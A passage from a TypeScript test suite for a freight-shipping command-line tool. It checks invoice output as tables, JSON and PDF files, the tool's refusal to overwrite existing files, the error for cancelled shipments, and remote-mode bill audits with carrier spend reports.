    const { code, stdout } = await runInProcess(['--store', dir, 'invoice', data.id]);
    expect(code).toBe(0);
    const rows = stdout
      .split('\n')
      .filter((line) => line.startsWith('│'))
      .map((line) =>
        line
          .split('│')
          .slice(1, -1)
          .map((cell) => cell.trim()),
      );
    expect(rows.at(-1)).toEqual(['', 'Total', '', '', '1', '', '300', expect.stringMatching(/^\$[\d,]+\.\d\d$/)]);
  });

  it('--json and -o FILE.pdf (or a directory), read back', async () => {
    const dir = join(store.dir, 'store');
    const json = JSON.parse((await runInProcess(['--store', dir, 'invoice', shipments[2]!.id, '--json'])).stdout);
    expect(json).toMatchObject({ invoiceNumber: 'INV-000003', totals: { totalInCents: 62_604 } });
    const file = join(store.dir, 'inv.pdf');
    const written = await runInProcess(['--store', dir, 'invoice', shipments[2]!.id, '-o', file]);
    expect(written).toMatchObject({ code: 0, stdout: '' });
    expect(written.stderr).toMatch(/^Wrote INV-000003 \(SO-000003\) to .*inv\.pdf \(\d+ KB\)\n$/);
    expect((await pdfAt(file)).pages[0]!.lines).toContain('Total | 3 | 10 | 1,500 | $626.04');
    const folder = join(store.dir, 'invoices');
    await mkdir(folder);
    expect((await runInProcess(['--store', dir, 'invoice', shipments[2]!.id, '-o', folder])).code).toBe(0);
    expect(await readdir(folder)).toEqual(['INV-000003.pdf']);
    expect((await runInProcess(['--store', dir, 'invoice', shipments[2]!.id, '-o', join(store.dir, 'inv.txt')])).code).toBe(2);
  });

  it('an existing PDF is kept (exit 2) unless --force', async () => {
    const dir = join(store.dir, 'store');
    const file = join(store.dir, 'kept.pdf');
    await writeFile(file, 'filed and annotated');
    const kept = await runInProcess(['--store', dir, 'invoice', shipments[2]!.id, '-o', file]);
    expect(kept.code).toBe(2);
    expect(kept.stderr).toContain(`${file} exists already; nothing was written`);
    expect(await readFile(file, 'utf8')).toBe('filed and annotated');
    expect((await runInProcess(['--store', dir, 'invoice', shipments[2]!.id, '-o', file, '--force'])).code).toBe(0);
    expect((await pdfAt(file)).pages[0]!.lines).toContain('Total | 3 | 10 | 1,500 | $626.04');
  });

  it('a cancelled or unknown shipment has no invoice (exit 4)', async () => {
    const dir = await storeCopy('cancel');
    expect((await runInProcess(['--store', dir, 'shipment', 'cancel', shipments[3]!.id])).code).toBe(0);
    const cancelled = await runInProcess(['--store', dir, 'invoice', shipments[3]!.id]);
    expect(cancelled.code).toBe(4);
    expect(cancelled.stderr).toMatch(/^shipper: shipment SO-000004 \(sh_\w+\) was cancelled on \d{4}-\d{2}-\d{2}: it has no invoice\n$/);
    expect((await runInProcess(['--store', dir, 'invoice', 'sh_01JD3Y7T9Q2W5E8R1T4Y7V0H3Z'])).code).toBe(4);
  });
});

describe('remote mode', () => {
  it('audits against the shipments of a shipper serve; the audited bills stay in the local store, where report spend reads them', async () => {
    const serverStore = await storeCopy('server');
    const localStore = join(store.dir, 'client');
    const server = await startServe({ store: serverStore, env: AUDIT_ENV });
    try {
      const { code, stdout } = await runInProcess(['--base-url', server.url, '--store', localStore, 'audit', x12File, '--json'], { env: AUDIT_ENV });
      expect(code).toBe(6);
      expect(findingsOf(JSON.parse(stdout) as AuditJson)).toEqual(EXPECTED);
      expect((await readdir(join(localStore, 'audited-bills'))).filter((name) => name.endsWith('.json'))).toHaveLength(5);
      await expect(access(join(serverStore, 'audited-bills'))).rejects.toThrow();
      // Spend: the server's shipments beside the bills audited into the local store.
      const spend = await runInProcess(['--base-url', server.url, '--store', localStore, 'report', 'spend', '--by', 'carrier', '--json'], { env: AUDIT_ENV });
      expect(spend.code).toBe(0);
      expect(JSON.parse(spend.stdout)).toMatchObject({
        rows: [
          { group: 'Roadrunner Freight (RRFT)', shipments: 4, poundsWeight: 6000, quotedInCents: 250_416, bills: 4, billedInCents: 273_666, disputedInCents: 23_250 },
          { group: '(no shipment)', shipments: 0, bills: 1, billedInCents: 11_700, disputedInCents: 11_700 },
        ],
        total: { shipments: 4, bills: 5, billedInCents: 285_366, disputedInCents: 34_950 },
      });
      const invoice = await runInProcess(['--base-url', server.url, '--store', localStore, 'invoice', shipments[0]!.id, '-o', join(store.dir, 'remote.pdf')]);
      expect(invoice.code).toBe(0);
      expect((await pdfAt(join(store.dir, 'remote.pdf'))).pages[0]!.lines).toContain('INV-000001 | 2026-11-19 | SO-000001 | PO-1');
    } finally {
      await server.stop();
    }
  });
});
